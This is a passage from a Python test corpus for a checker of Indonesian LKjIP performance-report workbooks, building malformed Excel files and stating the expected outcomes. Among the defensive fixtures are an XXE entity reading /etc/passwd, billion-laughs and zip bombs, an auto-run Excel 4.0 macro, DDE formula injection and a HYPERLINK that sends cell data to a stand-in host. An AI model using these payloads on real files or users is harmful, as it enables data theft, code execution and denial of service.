"""The bad-input corpus: each case builds one file and says what must happen to it.

Two outcomes are acceptable for any file, and each case names the one it must get:

* LAPORAN — the report sheets are regenerated (`galat_berkas` is None); problems in
  cells are findings naming the sheet and cell (`temuan` lists some that must be there);
* TOLAK — the file is refused with a message in Bahasa Indonesia that names the file
  (`pesan` lists phrases it must hold); the file is not touched.

The cell addresses follow the template: title in row 1, headers in row 3, data from
row 4, columns in schema order (see `sel`). Clean workbooks come from tests/factory.py
with 4 indicators (IK-01..IK-04 over sasaran S1/S2) and Anggaran rows
1 / 1.1 / 1.2 / 2 / 2.1 / 2.2 (pagu 3 / 1 / 2 / 6 / 2 / 4 million, realisasi 90 %).
"""

from __future__ import annotations

import re
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.corpus import generate as g
from tests.factory import IDENTITAS, clean_rows
from xl_lkip.core import schema
from xl_lkip.core.grid import ErrorValue, cell_ref, sheet_ref
from xl_lkip.files.template import build_workbook

LAPORAN = "laporan"
TOLAK = "tolak"
DILEWATI = "dilewati"  # not an LKjIP workbook: left alone with a one-line reason

VBA_SOURCE = "xlwings/quickstart_addin_ribbon.xlam"


@dataclass(frozen=True)
class Case:
    name: str
    about: str
    build: Callable[[Path], Any]
    outcome: str
    suffix: str = ".xlsx"
    pesan: tuple[str, ...] = ()  # TOLAK: patterns (re.search) the refusal must match
    temuan: tuple[tuple[str, str], ...] = ()  # LAPORAN: (rule id prefix, location) present
    galat: int | None = None  # LAPORAN: exact number of errors, when the file is consistent
    max_mb: float | None = None  # bound on traced Python memory of the CLI run (TOLAK: 50)
    max_sel: int | None = None  # bound on the cells the reader may test (a clock-free time bound)
    tombol: str | None = "auto"  # the button: "auto" (from outcome), "critical", or None = n/a
    tombol_pesan: tuple[str, ...] = ()
    tombol_alasan: str = ""  # why the button side is not run (tombol None)
    besar: bool = False  # run the CLI in a subprocess and measure it there
    bug: str = ""  # a known product bug makes the CLI outcome fail (xfail, strict)
    bug_tombol: str = ""  # the same for the button

    @property
    def filename(self) -> str:
        return self.name + self.suffix


def sel(table: str, key: str, i: int = 0) -> str:
    """Location of record i's `key` cell in a template-shaped table: 'Realisasi!J4'."""
    spec = schema.TABLES_BY_KEY[table]
    return sheet_ref(spec.sheet, schema.HEADER_ROW + 1 + i, spec.keys.index(key) + 1)


def ref(table: str, key: str, i: int = 0) -> str:
    """The same cell without the sheet: 'J4'."""
    spec = schema.TABLES_BY_KEY[table]
    return cell_ref(schema.HEADER_ROW + 1 + i, spec.keys.index(key) + 1)


def ident(key: str) -> str:
    return sheet_ref(schema.IDENTITAS_SHEET, schema.identitas_row(key), 2)


def header(table: str) -> str:
    return sheet_ref(schema.TABLES_BY_KEY[table].sheet, schema.HEADER_ROW, 1)


def sheet_of(table: str) -> str:
    return schema.TABLES_BY_KEY[table].sheet


# --- builders: data -----------------------------------------------------------------------------


def workbook(path: Path, n: int = 4, identitas: dict[str, Any] | None = None,
             extra: Callable[[Any], None] | None = None,
             **mutators: Callable[[list[dict[str, Any]]], None]) -> Path:
    rows = clean_rows(n)
    for key, fn in mutators.items():
        fn(rows[key])
    return build_workbook(path, {**IDENTITAS, **(identitas or {})}, rows, extra=extra)


def setter(**changes: Any) -> Callable[[list[dict[str, Any]]], None]:
    """A mutator: `setter(_0=dict(realisasi="x"))` changes record 0's fields."""

    def fn(rows: list[dict[str, Any]]) -> None:
        for k, fields in changes.items():
            rows[int(k[1:])].update(fields)

    return fn


def indikator(i: int, **fields: Any) -> dict[str, Callable[[list[dict[str, Any]]], None]]:
    """The same change to indicator record i in every indicator table (they stay consistent)."""
    def fn(rows: list[dict[str, Any]]) -> None:
        for k, v in fields.items():
            if k in rows[i]:
                rows[i][k] = v

    return {t: fn for t in ("renstra", "pk", "realisasi", "rencana_aksi")}


def as_text(style: str) -> Callable[[list[dict[str, Any]]], None]:
    """Every number of a table written as text in one notation ('id', 'en' or 'campur')."""

    def fmt(x: float, i: int) -> str:
        s_en = f"{x:,.2f}"
        s_id = s_en.replace(",", "\0").replace(".", ",").replace("\0", ".")
        if style == "id":
            return s_id
        if style == "en":
            return s_en
        if abs(x) >= 1000:  # money: rupiah with the 'no cents' dash, or English with Rp
            return f"Rp {s_id[:-3]},-" if i % 2 else f"Rp. {s_en}"
        return f"{s_id} %" if i % 2 else s_en

    def fn(rows: list[dict[str, Any]]) -> None:
        for i, rec in enumerate(rows):
            for k, v in list(rec.items()):
                if isinstance(v, float) and not isinstance(v, bool):
                    rec[k] = fmt(v, i)

    return fn


def all_as_text(style: str) -> dict[str, Callable[[list[dict[str, Any]]], None]]:
    return {t: as_text(style) for t in ("renstra", "pk", "realisasi", "rencana_aksi", "pk_program",
                                        "anggaran")}


def anggaran_amounts(**by_kode: tuple[float | None, float | None]) -> Callable[[list[dict]], None]:
    """Set (pagu, realisasi) of Anggaran rows by code ('k1_1' = kode 1.1) and keep totals."""

    def fn(rows: list[dict[str, Any]]) -> None:
        for k, (pagu, real) in by_kode.items():
            kode = k[1:].replace("_", ".")
            rec = next(r for r in rows if r["kode"] == kode)
            if pagu is not None:
                rec["pagu_murni"] = pagu
            if real is not None:
                rec["realisasi"] = real
        for prog in (r for r in rows if r["level"] == "Program"):
            kids = [r for r in rows if r["kode"].startswith(prog["kode"] + ".")]
            prog["pagu_murni"] = sum(r["pagu_murni"] for r in kids)
            prog["realisasi"] = sum(r["realisasi"] for r in kids)

    return fn


def consistent_budget(path: Path, **by_kode: tuple[float | None, float | None]) -> Path:
    """A clean workbook whose Anggaran amounts changed, with PK Program kept equal."""
    rows = clean_rows(4)
    anggaran_amounts(**by_kode)(rows["anggaran"])
    for prog in rows["pk_program"]:
        prog["anggaran"] = next(r["pagu_murni"] for r in rows["anggaran"]
                                if r["kode"] == prog["kode_program"])
    return build_workbook(path, IDENTITAS, rows)


# --- builders: structure ------------------------------------------------------------------------


def drop_sheets(*names: str) -> Callable[[Path], Path]:
    def build(path: Path) -> Path:
        return g.reshape(path, lambda s: [v for k, v in s.items() if k not in names])

    return build


def set_cells(sheet: str, **cells: Any) -> Callable[[dict[str, g.Lembar]], None]:
    """A reshape edit writing values by A1 reference (None empties the cell)."""
    from xl_lkip.core.grid import split_ref

    def edit(sheets: dict[str, g.Lembar]) -> None:
        lembar = sheets[sheet]
        for a1, value in cells.items():
            r, c = split_ref(a1)
            while len(lembar.values) < r:
                lembar.values.append([])
            row = lembar.values[r - 1]
            row += [None] * (c - len(row))
            row[c - 1] = value
            lembar.formulas.pop((r, c), None)

    return edit


def reorder_columns(sheets: dict[str, g.Lembar]) -> None:
    real = sheets["Realisasi"]
    n = len(schema.REALISASI.columns)
    g.permute_columns(real, list(range(n, 0, -1)))  # right to left
    ang = sheets["Anggaran"]
    m = len(schema.ANGGARAN.columns)
    g.permute_columns(ang, [*range(3, m + 1), 1, 2])  # Kode and Level moved to the end


def extra_columns_and_lower_header(sheets: dict[str, g.Lembar]) -> None:
    pk = sheets["PK"]
    width = len(schema.PK.columns)
    order = [*range(1, 3), width + 1, *range(3, width + 1)]  # an empty user column after Sasaran
    g.permute_columns(pk, order)
    pk.values[2][2] = "Catatan Bagian Perencanaan"
    g.insert_rows(pk, 3, [["PERJANJIAN KINERJA TAHUN 2020"], [], ["Dinas Contoh, Kabupaten Contoh"]])


def merged_title(sheets: dict[str, g.Lembar]) -> None:
    for name in ("Realisasi", "PK", "Anggaran"):
        sheets[name].merges.append((1, 1, 1, 8))


def merged_sasaran(sheets: dict[str, g.Lembar]) -> list[g.Lembar] | None:
    """Renstra sorted by sasaran, then its code and name merged down each group (as in
    printed LKjIP tables): the cells under a merge are empty in the file."""
    ren = sheets["Renstra"]
    head, body = ren.values[:3], ren.values[3:]
    order = sorted(range(len(body)), key=lambda i: (body[i][1], i))
    ren.values = head + [body[i] for i in order]
    ren.merges += [(4, 2, 5, 2), (4, 3, 5, 3), (6, 2, 7, 2), (6, 3, 7, 3)]
    return None


def merged_budget(sheets: dict[str, g.Lembar]) -> None:
    ang = sheets["Anggaran"]
    ang.merges += [(5, 3, 5, 4)]  # Uraian of 1.1 merged over its Jenis Belanja
    ang.merges += [(6, 7, 7, 7)]  # Realisasi of 1.2 merged down over program 2's


def no_headers(sheets: dict[str, g.Lembar]) -> None:
    sheets["Anggaran"].values[2] = [None] * len(sheets["Anggaran"].values[2])


def lower_case_sheet_names(sheets: dict[str, g.Lembar]) -> list[g.Lembar]:
    names = {"Realisasi": "realisasi", "Anggaran": "ANGGARAN ", "PK Program": "pk program"}
    for old, new in names.items():
        sheets[old].name = new
    return list(sheets.values())


def hidden_inputs(sheets: dict[str, g.Lembar]) -> None:
    sheets["Renstra"].hidden = True
    sheets["Skala"].hidden = True


def report_sheets_with_formulas(sheets: dict[str, g.Lembar]) -> None:
    for name in schema.REPORT_SHEETS:
        lembar = sheets[name]
        lembar.values += [[None] * 3 for _ in range(6)]
        lembar.formulas[(5, 1)] = '=HYPERLINK("http://contoh.invalid/","klik")'
        lembar.formulas[(6, 2)] = "=1/0"
        lembar.formulas[(7, 3)] = "=SUM(Realisasi!J4:J7)"


def percent_formatted(sheets: dict[str, g.Lembar]) -> None:
    real = sheets["Realisasi"]
    for i in range(4):
        r = 4 + i
        for c in (5, 10):  # Target and Realisasi stored as 0.81 shown as 81,00%
            real.values[r - 1][c - 1] = real.values[r - 1][c - 1] / 100
            real.percent.add((r, c))


def formulas_without_cache(sheets: dict[str, g.Lembar]) -> None:
    """Realisasi typed as =SUM of the quarters, saved by a tool that stores no results."""
    real = sheets["Realisasi"]
    for i in range(4):
        r = 4 + i
        real.formulas[(r, 10)] = f"=SUM(F{r}:I{r})"
        real.values[r - 1][9] = None


# --- builders: zip parts ------------------------------------------------------------------------


def in_sheet(sheet: str, fn: Callable[[bytes], bytes]) -> Callable[[Path], dict[str, Any]]:
    return lambda tmp: {g.sheet_part(tmp, sheet): fn}


def xml_cell_value(ref_: str, text: str) -> Callable[[bytes], bytes]:
    """Replace the <v> of one numeric cell in sheet XML."""

    def fn(data: bytes) -> bytes:
        xml = data.decode("utf-8")
        new, n = re.subn(rf'(<c r="{ref_}"[^>]*>)<v>[^<]*</v>', rf"\g<1><v>{text}</v>", xml)
        assert n == 1, ref_
        return new.encode("utf-8")

    return fn


def add_rows_xml(rows_xml: str) -> Callable[[bytes], bytes]:
    return lambda data: data.replace(b"</sheetData>", rows_xml.encode() + b"</sheetData>", 1)


def shared_string(old: str, new: str) -> Callable[[Path], dict[str, Any]]:
    from xml.sax.saxutils import escape

    return lambda tmp: {"xl/sharedStrings.xml": g.sub_once(f"<t>{escape(old)}</t>",
                                                           f"<t>{escape(new)}</t>")}


def with_doctype(root: str, reference: str, where: str, prolog: str = "") -> Callable[[bytes], bytes]:
    """Prepend a billion-laughs DOCTYPE and use the entity at `where` (a text to replace);
    `prolog` (comments, white space) goes between the XML declaration and the DOCTYPE."""

    def fn(data: bytes) -> bytes:
        xml = re.sub(r"^<\?xml[^>]*\?>\s*", "", data.decode("utf-8"))
        assert where in xml, where
        xml = xml.replace(where, where + reference, 1)
        bomb = g.billion_laughs(root)
        decl, _, rest = bomb.partition("\n")
        return (decl + "\n" + prolog + rest + xml).encode("utf-8")

    return fn


def xxe(data: bytes) -> bytes:
    xml = re.sub(r"^<\?xml[^>]*\?>\s*", "", data.decode("utf-8"))
    xml = xml.replace("<t>Indikator 1</t>", "<t>&xxe;</t>", 1)
    return ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n' + xml).encode()


def entity_bomb_sheet(path: Path) -> Path:
    return g.patched(path, in_sheet("Realisasi", with_doctype(
        "worksheet", '<row r="90"><c r="A90" t="inlineStr"><is><t>&lol9;</t></is></c></row>',
        "<sheetData>")))


def zip_ratio_bomb(path: Path) -> Path:
    """Anggaran's sheet XML padded with 64 MiB of spaces: deflates ~1000:1, declared honestly."""
    tmp = g.clean(path.with_name(path.stem + ".dasar.xlsx"))
    part = g.sheet_part(tmp, "Anggaran")
    with zipfile.ZipFile(tmp) as z:
        xml = z.read(part)
    head, tail = xml.split(b"<sheetData>", 1)

    def chunks() -> Any:
        yield head + b"<sheetData>"
        for _ in range(64):
            yield b" " * (1 << 20)
        yield tail

    raw, crc, size = g.deflated(chunks())
    g.zip_with_raw_member(tmp, path, part, raw, crc, size)
    tmp.unlink()
    return path


def zip_declared_huge(path: Path) -> Path:
    """A small part whose directory entry declares 4,000,000,000 bytes."""
    tmp = g.clean(path.with_name(path.stem + ".dasar.xlsx"))
    part = g.sheet_part(tmp, "Realisasi")
    with zipfile.ZipFile(tmp) as z:
        xml = z.read(part)
    raw, crc, _size = g.deflated([xml])
    g.zip_with_raw_member(tmp, path, part, raw, crc, 4_000_000_000)
    tmp.unlink()
    return path


LIAR_MIB = 128


def zip_lying_bomb(path: Path) -> Path:
    """The directory declares 600 KB for Realisasi's sheet (below every ratio rule), but its
    deflate stream inflates to 128 MiB: only the inflater can find out."""
    tmp = g.clean(path.with_name(path.stem + ".dasar.xlsx"))
    part = g.sheet_part(tmp, "Realisasi")
    with zipfile.ZipFile(tmp) as z:
        xml = z.read(part)
    head, tail = xml.split(b"<sheetData>", 1)

    def chunks() -> Any:
        yield head + b"<sheetData>"
        for _ in range(LIAR_MIB):
            yield b" " * (1 << 20)
        yield tail

    raw, crc, _size = g.deflated(chunks())
    g.zip_with_raw_member(tmp, path, part, raw, crc, 600_000)
    tmp.unlink()
    return path


def zip_many_parts(path: Path) -> Path:
    tmp = g.clean(path.with_name(path.stem + ".dasar.xlsx"))
    g.patch_zip(tmp, path, add={f"customXml/item{i}.xml": b"" for i in range(20_001)})
    tmp.unlink()
    return path


def truncated(path: Path) -> Path:
    g.clean(path)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


def bad_deflate(path: Path) -> Path:
    """Realisasi's deflate stream starts with an invalid block type (zlib refuses it)."""
    tmp = g.clean(path.with_name(path.stem + ".dasar.xlsx"))
    part = g.sheet_part(tmp, "Realisasi")
    with zipfile.ZipFile(tmp) as z:
        xml = z.read(part)
    raw, crc, size = g.deflated([xml])
    raw = bytes([raw[0] | 0b110]) + raw[1:]  # BTYPE = 11 (reserved)
    g.zip_with_raw_member(tmp, path, part, raw, crc, size)
    tmp.unlink()
    return path


def bad_crc(path: Path) -> Path:
    """Realisasi stored uncompressed with one byte changed after its checksum was taken."""
    tmp = g.clean(path.with_name(path.stem + ".dasar.xlsx"))
    part = g.sheet_part(tmp, "Realisasi")
    g.patch_zip(tmp, path, stored=[part])
    tmp.unlink()
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as z:
        info = z.getinfo(part)
    local = info.header_offset
    name_len, extra_len = struct.unpack("<HH", data[local + 26: local + 30])
    start = local + 30 + name_len + extra_len
    i = data.index(b"Kode Indikator", start) if b"Kode Indikator" in data[start:] else start + 200
    data[i] ^= 0x20
    path.write_bytes(bytes(data))
    return path


def missing_part(path: Path) -> Path:
    tmp = g.clean(path.with_name(path.stem + ".dasar.xlsx"))
    g.patch_zip(tmp, path, drop=[g.sheet_part(tmp, "Realisasi")])
    tmp.unlink()
    return path


def zip_not_workbook(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("laporan/data.csv", "Kode,Nilai\nIK-01,80\n")
        z.writestr("laporan/catatan.txt", "arsip LKjIP 2020")
    return path


def docx(path: Path) -> Path:
    ct = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
          'package/2006/content-types"><Default Extension="rels" ContentType="application/'
          'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
          '"application/xml"/><Override PartName="/word/document.xml" ContentType="application/'
          'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
            'schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target='
            '"word/document.xml"/></Relationships>')
    doc_rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
                'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http:'
                '//schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target='
                '"styles.xml"/></Relationships>')
    doc = ('<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats'
           '.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>LKjIP Dinas Contoh 2020</w:t>'
           "</w:r></w:p></w:body></w:document>")
    styles = ('<?xml version="1.0" encoding="UTF-8"?><w:styles xmlns:w="http://schemas.openxmlformats'
              '.org/wordprocessingml/2006/main"/>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", ct)
        z.writestr("_rels/.rels", rels)
        z.writestr("word/document.xml", doc)
        z.writestr("word/_rels/document.xml.rels", doc_rels)
        z.writestr("word/styles.xml", styles)
    return path


def ods(path: Path) -> Path:
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:'
               'oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:'
               'opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:'
               'text:1.0"><office:body><office:spreadsheet><table:table table:name="Realisasi">'
               "<table:table-row><table:table-cell><text:p>Kode Indikator</text:p></table:table-cell>"
               "</table:table-row></table:table></office:spreadsheet></office:body>"
               "</office:document-content>")
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:'
                'names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/"'
                ' manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                "</manifest:manifest>")
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
        z.writestr("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED)
    return path


def raw(data: bytes) -> Callable[[Path], Path]:
    def build(path: Path) -> Path:
        path.write_bytes(data)
        return path

    return build


CSV = ("\ufeffKode Indikator;Indikator;Target;Realisasi\r\nIK-01;Persentase partisipasi pemilih;75;"
       "80,09\r\nIK-02;Persentase potensi konflik;100;100\r\n").encode()
HTML = (b'<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta charset="utf-8"></head>'
        b"<body><table><tr><td>Kode Indikator</td><td>Realisasi</td></tr><tr><td>IK-01</td>"
        b"<td>80,09</td></tr></table></body></html>")


# --- builders: macros, injection, size ----------------------------------------------------------

MACRO_SHEET = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>'
    '<row r="1"><c r="A1"><f>EXEC("touch /tmp/xl-lkip-makro-DIJALANKAN")</f></c></row>'
    '<row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>')
MACRO_CT = "application/vnd.ms-excel.macrosheet+xml"
MACRO_REL = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
MACRO_MARKER = Path("/tmp/xl-lkip-makro-DIJALANKAN")


def vba_project() -> bytes:
    """vbaProject.bin of xlwings' ribbon add-in template (it shells out: Shell, CreateObject)."""
    import xlwings

    src = Path(xlwings.__file__).parent / Path(VBA_SOURCE).name
    with zipfile.ZipFile(src) as z:
        return z.read("xl/vbaProject.bin")


def xlsm_with_macros(path: Path) -> Path:
    """A macro workbook: a VBA project, and an Excel 4.0 macro sheet run on open (Auto_Open)."""
    vba = vba_project()
    tmp = path.with_name(path.stem + ".dasar.xlsm")
    bin_path = path.with_name(path.stem + ".vbaProject.bin")
    bin_path.write_bytes(vba)
    workbook(tmp, extra=lambda wb: wb.add_vba_project(str(bin_path)))
    bin_path.unlink()
    with zipfile.ZipFile(tmp) as z:
        wb_xml = z.read("xl/workbook.xml").decode()
    sheet_ids = [int(x) for x in re.findall(r'sheetId="(\d+)"', wb_xml)]
    sheet = f'<sheet name="Makro1" sheetId="{max(sheet_ids) + 1}" state="hidden" r:id="rId900"/>'
    name = '<definedName name="_xlnm.Auto_Open" hidden="1">Makro1!$A$1</definedName>'
    g.patch_zip(tmp, path, replace={
        "xl/workbook.xml": lambda b: b.decode().replace("</sheets>", sheet + "</sheets>")
        .replace("<definedNames>", "<definedNames>" + name).encode(),
        "xl/_rels/workbook.xml.rels": g.sub_once(
            "</Relationships>", f'<Relationship Id="rId900" Type="{MACRO_REL}" '
                                'Target="macrosheets/sheet1.xml"/></Relationships>'),
        "[Content_Types].xml": g.sub_once(
            "</Types>", f'<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="{MACRO_CT}"/>'
                        "</Types>"),
    }, add={"xl/macrosheets/sheet1.xml": MACRO_SHEET.encode()})
    tmp.unlink()
    return path


INJEKSI = {
    "hyperlink": '=HYPERLINK("http://contoh.invalid/curi?d="&A1,"Klik untuk rincian")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "kutip": "'=1+1",
}


def injection(path: Path) -> Path:
    def renstra(rows: list[dict]) -> None:
        for r in rows:
            if r["kode_sasaran"] == "S1":
                r["sasaran"] = INJEKSI["dde"]

    def pk(rows: list[dict]) -> None:
        renstra(rows)

    def anggaran(rows: list[dict]) -> None:
        rows[0]["uraian"] = INJEKSI["at"]
        rows[1]["uraian"] = INJEKSI["minus"]
        rows[4]["uraian"] = INJEKSI["tab"]

    def program(rows: list[dict]) -> None:
        rows[0]["program"] = INJEKSI["at"]

    muts = indikator(0, indikator=INJEKSI["hyperlink"])
    muts2 = indikator(1, satuan=INJEKSI["plus"])
    muts3 = indikator(2, indikator=INJEKSI["kutip"])

    def both(t: str) -> Callable[[list[dict]], None]:
        def fn(rows: list[dict]) -> None:
            muts[t](rows)
            muts2[t](rows)
            muts3[t](rows)
            if t == "renstra":
                renstra(rows)
            if t == "pk":
                pk(rows)

        return fn

    return workbook(path, identitas={"instansi": INJEKSI["hyperlink"], "kepala": INJEKSI["dde"]},
                    anggaran=anggaran, pk_program=program,
                    **{t: both(t) for t in ("renstra", "pk", "realisasi", "rencana_aksi")})


PANJANG = 100_000


def long_text(path: Path) -> Path:
    """'Indikator 1' (one shared string used by four tables) becomes 100,000 characters;
    XlsxWriter caps strings at Excel's 32,767, so the string is put into the XML directly."""
    text = ("Persentase capaian yang sangat panjang " * (PANJANG // 39 + 1))[:PANJANG]
    return g.patched(path, shared_string("Indikator 1", text))


KENDALI = "Indikator\x01 dengan\x07 kendali\x1f dan \ufffe aneh"


def control_chars(path: Path) -> Path:
    return workbook(path, **indikator(1, indikator=KENDALI))


UNICODE = "Indeks kebahagiaan 😀 — ‏مؤشر‎ — 指标 — Z\u0335\u0321algo — zero\u200bwidth"


def far_cell(ref_: str) -> Callable[[Path], Path]:
    from xl_lkip.core.grid import split_ref

    r, _c = split_ref(ref_)
    row = f'<row r="{r}"><c r="{ref_}" t="inlineStr"><is><t>ujung</t></is></c></row>'
    return lambda path: g.patched(path, in_sheet("Anggaran", add_rows_xml(row)))


BARIS = 100_000


def budget_rows(n: int) -> tuple[list[list[Any]], dict[str, float]]:
    """n Anggaran rows: 2 programs × 50 kegiatan × sub kegiatan, sums exact; → rows, program pagu."""
    per_kegiatan = n // 100 - 1
    rows: list[list[Any]] = []
    pagu_prog = {}
    for p in (1, 2):
        prog_at = len(rows)
        rows.append([])
        tp = tr = 0
        for k in range(1, 51):
            keg_at = len(rows)
            rows.append([])
            kp = kr = 0
            for s in range(1, per_kegiatan + 1):
                pagu = 1_000_000 + (s * 7919 % 1000) * 1000
                real = pagu - (s * 104729 % 100) * 1000
                kp += pagu
                kr += real
                rows.append([f"{p}.{k:02d}.{s:04d}", "Sub Kegiatan", f"Sub kegiatan {p}.{k}.{s}",
                             "Belanja Barang dan Jasa", pagu, None, real, None, f"IK-0{p}"])
            rows[keg_at] = [f"{p}.{k:02d}", "Kegiatan", f"Kegiatan {p}.{k}", None, kp, None, kr,
                            None, f"IK-0{p}"]
            tp += kp
            tr += kr
        rows[prog_at] = [str(p), "Program", f"Program {p}", None, tp, None, tr, None, None]
        pagu_prog[str(p)] = float(tp)
    return rows, pagu_prog


def hundred_thousand_rows(path: Path) -> Path:
    """Anggaran with 100,000 consistent rows, its sheet XML written directly (XlsxWriter
    would take minutes to lay out the Table and its validations)."""
    rows, pagu = budget_rows(BARIS)
    tmp = path.with_name(path.stem + ".dasar.xlsx")

    def programs(recs: list[dict]) -> None:
        for rec in recs:
            rec["anggaran"] = pagu[rec["kode_program"]]

    workbook(tmp, pk_program=programs)
    part = g.sheet_part(tmp, "Anggaran")
    head = [[schema.ANGGARAN.title], [], [c.header for c in schema.ANGGARAN.columns]]
    xml = "".join(g.sheet_xml(head + rows)).encode()
    g.patch_zip(tmp, path, replace={part: xml})
    tmp.unlink()
    return path


def zero_target(value: float, i: int) -> dict[str, Callable[[list[dict[str, Any]]], None]]:
    """Target `value` for indicator i in every table, quarters of Rencana Aksi included."""
    muts = indikator(i, target=value, target_rkt=value, target_4=value, target_tahun=value)
    plan = muts["rencana_aksi"]

    def rencana(rows: list[dict[str, Any]]) -> None:
        plan(rows)
        for k in ("tw1", "tw2", "tw3", "tw4"):
            rows[i][k] = value / 4

    return {**muts, "rencana_aksi": rencana}


# --- the cases ----------------------------------------------------------------------------------

R, A, P = "realisasi", "anggaran", "pk"

CASES: list[Case] = [
    # clean
    Case("bersih", "workbook built from the template, fully consistent", lambda p: workbook(p),
         LAPORAN, galat=0),
    Case("templat_kosong", "the empty template (no data typed yet)", build_workbook, LAPORAN,
         temuan=(("K08", ident("instansi")), ("K08", ident("tahun")))),
    Case("buku_kosong", "an empty workbook saved by openpyxl (one empty sheet)",
         lambda p: __import__("openpyxl").Workbook().save(p), DILEWATI,
         tombol="critical", tombol_pesan=("bukan templat LKjIP",)),
    Case("buku_kerja_lain", "an unrelated workbook (a staff list) sent by mistake",
         lambda p: g.from_grids(p, [g.Lembar("Pegawai", [["Nama", "NIP"], ["Budi", "1970"]])]),
         DILEWATI, tombol="critical", tombol_pesan=("bukan templat LKjIP",)),
    # numbers
    Case("teks_di_sel_angka", "words in number cells: 'delapan puluh', 'satu juta'",
         lambda p: workbook(p, realisasi=setter(_0=dict(realisasi="delapan puluh")),
                            anggaran=setter(_1=dict(pagu_murni="satu juta"))),
         LAPORAN, temuan=(("K07", sel(R, "realisasi")), ("K07", sel(A, "pagu_murni", 1)))),
    Case("angka_gaya_indonesia", "every number typed as Indonesian text: '1.000.000,00', '20,75'",
         lambda p: workbook(p, **all_as_text("id")), LAPORAN, galat=0),
    Case("angka_gaya_inggris", "every number typed as English text: '1,000,000.00', '20.75'",
         lambda p: workbook(p, **all_as_text("en")), LAPORAN, galat=0),
    Case("angka_gaya_campuran", "styles mixed row by row: 'Rp 1.000.000,-', 'Rp. 2,000,000.00', "
         "'82,00 %', '20.75'", lambda p: workbook(p, **all_as_text("campur")), LAPORAN, galat=0),
    Case("angka_meragukan", "'300,000' (thousands or decimals?) in Pagu Murni",
         lambda p: workbook(p, anggaran=setter(_1=dict(pagu_murni="300,000"))),
         LAPORAN, temuan=(("K07", sel(A, "pagu_murni", 1)),)),
    Case("angka_salah_ketik", "'1.80.0000' and '.90.000' (broken digit groups) in Realisasi",
         lambda p: workbook(p, anggaran=setter(_2=dict(realisasi="1.80.0000"),
                                                _1=dict(realisasi=".90.000"))),
         LAPORAN, temuan=(("K07", sel(A, "realisasi", 2)), ("K07", sel(A, "realisasi", 1)))),
    Case("nilai_benar_salah", "TRUE in a target cell",
         lambda p: workbook(p, realisasi=setter(_1=dict(target=True))),
         LAPORAN, temuan=(("K07", sel(R, "target", 1)),)),
    Case("persen_berformat", "Target and Realisasi stored as 0.81 formatted 81,00 %",
         lambda p: g.reshape(p, percent_formatted), LAPORAN, galat=0),
    Case("inf_nan_di_xml", "NaN, INF and 1e999 as cell values in the sheet XML",
         lambda p: g.patched(p, in_sheet("Realisasi", lambda b: xml_cell_value(
             ref(R, "realisasi", 0), "INF")(xml_cell_value(ref(R, "tw1", 1), "NaN")(
             xml_cell_value(ref(R, "target", 2), "1e999")(b))))),
         LAPORAN, temuan=(("K07", sel(R, "realisasi", 0)), ("K07", sel(R, "target", 2)))),
    Case("angka_raksasa", "pagu 1e308 in two kegiatan (their sum overflows)",
         lambda p: workbook(p, anggaran=setter(_4=dict(pagu_murni=1e308), _5=dict(pagu_murni=1e308))),
         LAPORAN, temuan=(("K", sel(A, "pagu_murni", 4)),)),
    # sheets
    Case("lembar_hilang_rencana_aksi", "sheet Rencana Aksi deleted",
         drop_sheets("Rencana Aksi"), LAPORAN, temuan=(("K00", "Rencana Aksi"),)),
    Case("lembar_hilang_anggaran", "sheet Anggaran deleted", drop_sheets("Anggaran"), LAPORAN,
         temuan=(("K00", "Anggaran"),)),
    Case("lembar_hilang_identitas", "sheet Identitas deleted", drop_sheets("Identitas"), LAPORAN,
         temuan=(("K00", "Identitas"),)),
    Case("lembar_laporan_hilang", "every report sheet deleted (they are added back)",
